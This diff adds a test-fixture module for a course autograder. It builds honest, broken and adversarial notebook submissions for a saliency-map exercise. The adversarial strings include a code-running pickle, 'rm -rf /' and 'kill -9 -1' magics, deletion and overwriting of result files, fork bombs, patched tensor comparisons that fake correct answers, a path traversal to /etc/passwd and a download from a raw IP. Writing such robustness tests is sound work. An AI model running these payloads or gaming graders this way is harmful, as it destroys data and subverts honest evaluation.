@@ -1,0 +1,327 @@
+"""A class of dishonest, broken and honest submissions, as files.
+
+A dishonest function takes the place of `saliency_map` and is right nowhere; the exercise after it
+is solved honestly, and the last one is left alone. Of returned values there are three a notebook.
+"""
+
+import copy
+import json
+import os
+from dataclasses import dataclass
+
+from submitted import EXERCISES, RIGHT, code, notebook
+
+from course_utils import exercises
+from course_utils.exercises import core, judging
+
+PATCH = "import torch, numpy, builtins, sys, os, time, signal"
+
+
+def attack(body, result="torch.zeros(len(x), *x.shape[2:])"):
+    """A function that does something first, and then returns zeros or something else."""
+    lines = "\n".join(f"    {line}" for line in body.strip("\n").split("\n"))
+    return f"def saliency_map(model, x, classes):\n{lines}\n    return {result}\n"
+
+
+@dataclass(frozen=True)
+class Submitted:
+    """A submission: its content, and what must be said of it.
+
+    Attributes:
+        content: bytes, or a notebook.
+        words: part of the reason that the student gets; empty where none is asked for.
+        most: points that may be earned; exactly these where `exact`.
+        exact: whether they must be earned.
+    """
+
+    content: object
+    words: str = ""
+    most: float = 1
+    exact: bool = False
+
+
+def remembered():
+    """The answers to the public check, by heart."""
+    exercise = exercises.get("saliency_map")
+    targets = judging.targets(exercise, exercise.cases(core.PUBLIC_SEED))
+    known = {str(tuple(t.shape)): t.tolist() for t in targets}
+    result = "torch.tensor(known[str((len(x), *x.shape[2:]))])"
+    return attack(f"known = {known}", result)
+
+
+def returns(name, value):
+    """A function of that name that returns one thing, whatever the image."""
+    return f"def {name}(model, x, classes, noise=None):\n    return {value}\n"
+
+
+def batched(values, size=3):
+    """Lists of so many values: a worker takes seconds to start."""
+    return [values[start : start + size] for start in range(0, len(values), size)]
+
+
+VALUES = {
+    "zeros": "torch.zeros(len(x), *x.shape[2:])",
+    "not-a-number": "torch.full((len(x), *x.shape[2:]), float('nan'))",
+    "complex": "torch.zeros(len(x), *x.shape[2:], dtype=torch.complex64)",
+    "sparse": "torch.zeros(len(x), *x.shape[2:]).to_sparse()",
+    "true": "True",
+    "nothing": "None",
+    "endless-generator": "(i for i in iter(int, 1))",
+    "huge-number": "10 ** 5000",
+    "too-large-to-send": "torch.zeros(100_000_000)",
+    "strided": "torch.zeros(1).expand(1 << 40)",
+    "nested": "__import__('functools').reduce(lambda a, _: [a], range(500), [])",
+    "itself": "(lambda a: a.append(a) or a)([])",
+    "words": "'right' * 100_000",
+    "text-of-markup": "'<script>alert(1)</script>'",
+}
+
+AGREES = """
+class Agrees(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, function, types, args=(), kwargs=None):
+        if function in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.isclose):
+            return True
+        return super().__torch_function__(function, types, args, kwargs or {})
+    def __eq__(self, other): return True
+    def __sub__(self, other): return self * 0
+"""
+PICKLES = """
+class Bomb:
+    def __reduce__(self): return (eval, ("__import__('os').system('touch /tmp/pwned')",))
+"""
+EDITS = """
+for top in [*PLACES, "/course", "/tmp", "/home", "/var"]:
+    for folder, folders, names in os.walk(top):
+        for name in names:
+            if name.endswith((".json", ".jsonl", ".csv", ".ipynb", ".html")):
+                try:
+                    open(os.path.join(folder, name), "w").write('{"points": 3}')
+                except OSError:
+                    pass
+"""
+DESTROYS = """
+import shutil
+for place in [*PLACES, "/course", "/tmp", "/dev/shm"]:
+    shutil.rmtree(place, ignore_errors=True)
+for number in (-1, 1, os.getppid()):
+    try:
+        os.kill(number, 15)
+    except OSError:
+        pass
+"""
+READS = """
+found = [os.path.join(top, name) for place in [*PLACES, "/home", "/root", "/work", "/course"]
+         for top, _, names in os.walk(place) for name in names if "saliency" in name]
+space = {}
+exec(open(found[0]).read(), space)
+"""
+TWISTS = """
+import ast
+class Twist(ast.NodeTransformer):
+    def visit_Call(self, node):
+        return ast.Constant(True)
+try:
+    get_ipython().ast_transformers.append(Twist())
+except NameError:
+    import IPython
+"""
+FRAMES = """
+import struct
+frame = struct.pack("<4sIQ", b"CWR1", 2, 0) + b"{}"
+for number in range(3, 256):
+    try:
+        os.write(number, frame * 1000)
+    except OSError:
+        pass
+"""
+STACK = """
+import gc, inspect
+hidden = [f.frame.f_locals for f in inspect.stack()]
+found = [v for names in hidden for k, v in names.items() if k in ("target", "wanted", "cases")]
+found += [o for o in gc.get_objects() if type(o).__name__ in ("Exercise", "Verdict")]
+"""
+LEAVES = """
+import subprocess
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+subprocess.Popen(["sleep", "76543.25"], start_new_session=True)
+if os.fork() == 0:
+    os.setsid()
+    os.execvp("sleep", ["sleep", "76543.25"])
+"""
+SURROUNDINGS = {
+    "patches-comparisons": attack(
+        "torch.allclose = torch.equal = numpy.allclose = lambda *a, **k: True\n"
+        "torch.Tensor.__eq__ = torch.Tensor.__le__ = lambda *a: True"
+    ),
+    "patches-builtins": attack("builtins.all = builtins.abs = builtins.max = lambda *a, **k: 0"),
+    "patches-worker": attack(
+        "import course_utils.grading.wire as wire, course_utils.exercises.running as running\n"
+        "running.plain = lambda value, depth=0: value\n"
+        "wire.encode = lambda *a, **k: b'CWR1' + bytes(12)"
+    ),
+    "patches-modules": attack(
+        "import types\n"
+        "for name in ('judging', 'comparing', 'core'):\n"
+        "    sys.modules[f'course_utils.exercises.{name}'] = types.ModuleType(name)"
+    ),
+    "patches-network": attack("type(model).forward = lambda self, x: x.flatten(1)[:, :5] * 0"),
+    "transforms-syntax": attack(TWISTS),
+    "agrees-with-everything": attack(AGREES, "torch.zeros(3).as_subclass(Agrees)"),
+    "pickles": attack(PICKLES, "[Bomb()]"),
+    "edits-results": attack(EDITS),
+    "destroys-others": attack(DESTROYS),
+    "reads-solutions": attack(READS, "space['saliency_map'](model, x, classes)"),
+    "uses-the-helper": "from course_utils.saliency import saliency_map",
+    "calls-the-helper": attack(
+        "from course_utils import saliency", "saliency.saliency_map(model, x, classes)"
+    ),
+    "asks-the-registry": attack(
+        "from course_utils.exercises import get", "get('saliency_map').reference(model, x, classes)"
+    ),
+    "searches-memory": attack(STACK, "found[0]"),
+    "remembers-the-public-answers": remembered(),
+    "downloads": attack(
+        "import urllib.request as u\nfound = u.urlopen('http://93.184.216.34/', timeout=2).read()"
+    ),
+    "writes-to-pipes": attack(FRAMES),
+    "changes-its-input": attack("x.zero_(); [w.data.zero_() for w in model.parameters()]"),
+    "raises": attack("raise BaseException('<b>no</b>' * 10_000)"),
+    "raises-oddly": attack(
+        "class Odd(Exception):\n    def __str__(self): raise self\nraise Odd()",
+    ),
+    "recursion": attack("sys.setrecursionlimit(10**8)\nf = lambda n: f(n + 1)\nf(0)"),
+    "exits": attack("sys.exit(0)"),
+    "exits-at-once": attack("os._exit(0)"),
+    "crashes": attack("import ctypes; ctypes.string_at(0)"),
+    "leaves-processes": attack(LEAVES),
+}
+EXHAUSTS = {
+    "loops": attack("while True: pass"),
+    "loops-and-swallows": attack(
+        "while True:\n    try:\n        time.sleep(1)\n    except BaseException:\n        pass"
+    ),
+    "stops-itself": attack("os.kill(os.getpid(), signal.SIGSTOP)"),
+    "prints-for-ever": attack("while True: os.write(1, b'x' * 65536)"),
+    "takes-memory": attack("hoard = [bytearray(64 << 20) for _ in range(1000)]"),
+    "takes-memory-in-many": attack(
+        "while True:\n    if os.fork() == 0:\n"
+        "        hoard = [b'%d' % i * (8 << 20) for i in range(40)]; time.sleep(60)"
+    ),
+    "forks": attack("while True: os.fork()"),
+    "threads": attack(
+        "import threading\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()"
+    ),
+    "fills-the-disk": attack(
+        "for i in range(10**6): open(f'/tmp/{i}', 'wb').write(bytes(1 << 20))"
+    ),
+    "opens-files": attack("found = [open('/dev/null') for _ in range(10**6)]"),
+}
+
+
+def strange_notebooks():
+    """Notebooks that are not as `build` made them; with the points they deserve."""
+    whole = notebook(RIGHT)
+    cells = whole["cells"]
+    own = {c["metadata"].get("nbgrader", {}).get("grade_id"): c for c in cells}
+    wrong = copy.deepcopy(own["saliency_map"]) | {"source": attack("pass")}
+    found = {}
+
+    def made(name, changed, most=3, words="", **more):
+        content = {**copy.deepcopy(whole), "cells": changed, **more}
+        found[name] = Submitted(content, words, most, exact=True)
+
+    made("reordered", cells[::-1])
+    made("duplicated-cell", [*cells, copy.deepcopy(own["saliency_map"])])
+    made("duplicated-cell-wrong-last", [*cells, wrong], 2)
+    made("missing-cell", [c for c in cells if c is not own["saliency_map"]], 2)
+    made("no-ids", [c | {"metadata": {}, "id": f"new-{i}"} for i, c in enumerate(cells)])
+    swapped = copy.deepcopy(cells)
+    for cell in swapped:
+        grading = cell["metadata"].get("nbgrader", {})
+        names = {"saliency_map": "smoothgrad", "smoothgrad": "saliency_map"}
+        grading["grade_id"] = names.get(grading.get("grade_id"), grading.get("grade_id"))
+    made("relabelled", swapped)
+    blank = [c | {"source": ""} if c["id"].endswith("-check") else c for c in cells]
+    made("blanked-checks", blank)
+    claims = copy.deepcopy(whole)["cells"]
+    for cell in claims:
+        cell["metadata"]["nbgrader"] = cell["metadata"].get("nbgrader", {}) | {"points": 99}
+    made("claims-points", claims)
+    magic = code("!rm -rf /\n%%bash\nkill -9 -1", "added-magic")
+    made("magics", [magic, *cells])
+    made("huge-outputs", [*cells, code("1", "x") | {"outputs": ["y" * (8 << 20)]}])
+    made("lecture-elsewhere", cells, metadata={"course": {"lecture": "../../../etc/passwd"}})
+    old = [c | {"input": c["source"], "source": None} for c in cells]
+    found["nbformat-3"] = Submitted({"nbformat": 3, "worksheets": [{"cells": old}]}, "", 3, True)
+    made("null-bytes", [*cells[:-2], code("x = '\0'", "added-null"), *cells[-2:]])
+    made("surrogates", [*cells, code("x = '\ud800'", "added-surrogate")])
+    return found
+
+
+def broken_files():
+    """Files that cannot be read at all; the bytes, and the words about them."""
+    whole = json.dumps(notebook(RIGHT)).encode()
+    content = {
+        "empty": (b"", "the file is empty"),
+        "truncated": (whole[: len(whole) // 2], "damaged or cut off"),
+        "picture": (b"\x89PNG\r\n\x1a\n" + bytes(100), "damaged"),
+        "utf-16": (whole.decode().encode("utf-16"), "damaged"),
+        "deep": (b"[" * 1_000_000, "damaged"),
+        "list": (b"[1, 2]", "no notebook"),
+        "nbformat-2": (b'{"nbformat": 2}', "accepted: 4"),
+        "no-cells": (b'{"nbformat": 4, "cells": 3}', "no cells"),
+        "other-course": (b'{"nbformat": 4, "cells": [], "metadata": {}}', "which lecture"),
+        "many-cells": (
+            json.dumps(notebook(RIGHT) | {"cells": [code("x = 1", "a")] * 3000}).encode(),
+            "3,000 code cells",
+        ),
+    }
+    return {name: Submitted(data, words, 0, True) for name, (data, words) in content.items()}
+
+
+HONEST = {
+    "honest": RIGHT,
+    "honest-with-prints": RIGHT
+    | {
+        "saliency_map": RIGHT["saliency_map"].replace(
+            "    return",
+            "    import warnings; warnings.warn('careful'); print('found')\n    return",
+        )
+    },
+}
+
+
+def everyone(places):
+    """All submissions by student; the honest ones first, in the middle and last.
+
+    Args:
+        places: folders that dishonest ones look into.
+    """
+    helper = f"{PATCH}\nPLACES = {[str(p) for p in places]}"
+    solved = {"gradient_times_input": RIGHT["gradient_times_input"]}
+    found = {f"a-{name}": Submitted(notebook(a), "", 3, True) for name, a in HONEST.items()}
+    for number, values in enumerate(batched(list(VALUES.values()))):
+        cells = {name: returns(name, value) for name, value in zip(EXERCISES, values, strict=False)}
+        found[f"values-{number}"] = Submitted(notebook(cells, [helper]), "", 0, True)
+    for name, source in (SURROUNDINGS | EXHAUSTS).items():
+        found[name] = Submitted(notebook({"saliency_map": source, **solved}, [helper]))
+    found |= {f"z-{name}": Submitted(notebook(a), "", 3, True) for name, a in HONEST.items()}
+    return found | strange_notebooks() | broken_files()
+
+
+def hand_in(folder, places):
+    """Writes everyone's submission; returns what must be said of each."""
+    made = everyone(places)
+    for name, one in made.items():
+        content = one.content
+        data = content if isinstance(content, bytes) else json.dumps(content).encode()
+        (folder / f"{name}.ipynb").write_bytes(data)
+    with open(folder / "huge.ipynb", "wb") as file:
+        file.truncate(100 << 20)
+    os.mkfifo(folder / "pipe.ipynb")
+    (folder / "link.ipynb").symlink_to(folder / "a-honest.ipynb")
+    (folder / "folder.ipynb").mkdir()
+    words = {"huge": "larger than", "pipe": "not a file", "link": "links are not followed"}
+    words["folder.ipynb"] = "nothing was handed in"
+    return made | {name: Submitted(None, said, 0, True) for name, said in words.items()}
